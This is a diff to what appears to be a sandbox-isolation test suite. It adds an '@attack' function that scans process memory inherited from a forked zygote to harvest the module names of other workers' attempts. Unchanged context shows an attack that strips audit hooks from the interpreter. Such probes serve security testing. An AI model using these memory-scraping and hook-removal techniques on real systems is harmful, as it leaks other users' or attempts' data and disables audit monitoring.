@@ -215,6 +215,27 @@ def _mappings() -> list[tuple[int, int]]:
 
 
 @attack
+def orders_of_others(aim: Aim, loot: Loot) -> None:
+    """What the zygote was told about other workers (modules, folders), left over in the memory that a fork copies."""
+    own = __name__.encode()
+    pattern = re.compile(rb'"module" ?: ?"(workflows\.[a-z_]+)"')
+    seen = set()
+    reading, writing = os.pipe()
+    for start, end in _mappings():
+        for at in range(start, min(end, start + (64 << 20)), 65536):
+            try:
+                size = syscall("write", writing, at, min(65536, end - at))
+            except OSError:
+                continue
+            data = b""
+            while len(data) < size:
+                data += os.read(reading, size)
+            seen.update(pattern.findall(data))
+    for name in seen - {own}:
+        loot.got("a module of another attempt", name)
+
+
+@attack
 def hooks_removed(aim: Aim, loot: Loot) -> None:
     """Audit hooks cut out of the interpreter's memory; then the engine again."""
     types = ctypes()
